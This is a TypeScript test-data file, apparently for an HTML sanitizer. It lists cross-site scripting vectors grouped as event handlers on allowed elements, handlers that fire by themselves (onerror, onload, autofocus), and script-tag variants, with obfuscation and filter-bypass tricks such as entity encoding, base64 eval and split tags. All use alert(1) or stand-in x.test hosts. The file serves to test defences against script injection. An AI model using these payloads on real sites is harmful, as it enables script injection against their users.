import { texts } from '../../support/texts.ts'
import type { VectorClass } from './vector-class.ts'

export const handlers: readonly VectorClass[] = [
  {
    name: 'event handlers on elements that are allowed',
    vectors: [
      '<p onclick=alert(1)>x</p>',
      '<b onmouseover="alert(1)">x</b>',
      "<i onpointerenter='alert(1)'>x</i>",
      '<a onfocus=alert(1) autofocus tabindex=1>x</a>',
      '<a href="https://example.ca" onclick="alert(1)">x</a>',
      '<a onclick="alert(1)" href="https://example.ca">x</a>',
      '<div onfocus=alert(1) tabindex=0 autofocus>x</div>',
      '<div contenteditable autofocus onfocus=alert(1)>x</div>',
      '<strong onanimationstart=alert(1) style="animation:x 1s">x</strong>',
      '<em ontransitionend=alert(1) style="transition:all 1s">x</em>',
      '<ul onscroll=alert(1)><li>x</li></ul>',
      '<ol onscrollend=alert(1)><li>x</li></ol>',
      '<li oncopy=alert(1)>x</li>',
      '<br onload=alert(1)>x',
      '<br/onmouseover=alert(1)/>x',
      '<p OnClIcK="alert(1)">x</p>',
      '<p onclick\t=\n"alert(1)">x</p>',
      '<p/onclick=alert(1)>x</p>',
      '<p\u000conclick=alert(1)>x</p>',
      '<p\nonclick=alert(1)>x</p>',
      '<p x="y"onclick=alert(1)>x</p>',
      '<p onclick="&#97;lert(1)">x</p>',
      '<p onclick=&#x61;lert&lpar;1&rpar;>x</p>',
      '<p onclick="eval(atob(`YWxlcnQoMSk=`))">x</p>',
      '<p onclick="top[/al/.source+/ert/.source](1)">x</p>',
      '<p onclick="setTimeout`alert\\x281\\x29`">x</p>',
      '<div onbeforetoggle=alert(1) popover id=x>x</div>',
      '<div oncontentvisibilityautostatechange=alert(1) style="display:block;content-visibility:auto">x</div>',
      '<div onwheel=alert(1)>x</div>',
      '<p onbeforecopy=alert(1) contenteditable>x</p>',
      '<p onselectstart=alert(1)>x</p>',
      '<p onsecuritypolicyviolation=alert(1)>x</p>',
    ],
  },
  {
    name: 'event handlers that run by themselves',
    vectors: texts(`
      <img src=x onerror=alert(1)> | <img src onerror=alert(1)> | <img/src/onerror=alert(1)>
      <img src="x" onerror="alert(1)" | <img src=x:x onerror=alert(1)// | <IMG SRC=x ONERROR=alert(1)>
      <img src=x onerror="&#x61;lert(1)"> | <img srcset=x onerror=alert(1)> | <image src=x onerror=alert(1)>
      <picture><source srcset=x><img onerror=alert(1)></picture>
      <img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload=alert(1)>
      <video src=x onerror=alert(1)></video> | <video><source onerror=alert(1) src=x></video>
      <audio src=x onerror=alert(1)></audio> | <audio onloadstart=alert(1) src=x></audio>
      <body onload=alert(1)> | <body onpageshow=alert(1)>x | <frameset onload=alert(1)>
      <iframe onload=alert(1)></iframe> | <object data=x onerror=alert(1)></object>
      <embed src=x onload=alert(1)> | <link rel=stylesheet href=x onerror=alert(1)>
      <style onload=alert(1)></style> | <script src=x onerror=alert(1)></script>
      <input autofocus onfocus=alert(1)> | <input type=image src=x onerror=alert(1)>
      <select autofocus onfocus=alert(1)></select> | <textarea autofocus onfocus=alert(1)></textarea>
      <button autofocus onfocus=alert(1)>x</button> | <keygen autofocus onfocus=alert(1)>
      <details open ontoggle=alert(1)>x</details> | <dialog open onfocusin=alert(1)><input autofocus></dialog>
      <marquee onstart=alert(1)>x</marquee> | <marquee loop=1 width=0 onfinish=alert(1)>x</marquee>
      <x onfocus=alert(1) tabindex=1 autofocus>x</x>
      <custom-element onanimationend=alert(1) style="animation:x">x</custom-element>
      <track default oncuechange=alert(1)> | <meter onmouseover=alert(1)>x</meter>
      <a><img src=x onerror=alert(1)></a>
      <p><b><i><em><strong><img src=x onerror=alert(1)></strong></em></i></b></p>
    `),
  },
  {
    name: 'scripts',
    vectors: [
      ...texts(`
      <script>alert(1)</script> | <SCRIPT>alert(1)</SCRIPT> | <ScRiPt>alert(1)</sCrIpT>
      <script src=//x.test/x.js></script> | <script src="data:text/javascript,alert(1)"></script>
      <script>alert(1) | <script/x>alert(1)</script> | <script type=module>alert(1)</script>
      <script type=text/javascript>alert(1)</script> | <script async src=//x.test/x></script>
      <<script>alert(1);//<</script> | <scr<script>ipt>alert(1)</scr</script>ipt>
      <script>/*</b>*/alert(1)</script> | </script><script>alert(1)</script> | <script>alert(1)</script bogus>
      <script>eval("\\61lert(1)")</script>
      <script type=importmap>{"imports":{"x":"//x.test/x"}}</script><script type=module>import "x"</script>
      <script type=speculationrules>{"prefetch":[{"urls":["//x.test/x"]}]}</script>
      <script charset="utf-7" src=//x.test></script>
      <script>Object.defineProperty(self,"x",{get(){alert(1)}});x</script>
      <noscript><p title="</noscript><script>alert(1)</script>">x</p></noscript>
    `),
      '<script\n>alert(1)</script\n>',
      '<script><!--\nalert(1)\n--></script>',
      '<script>alert`1`</script>',
    ],
  },
]
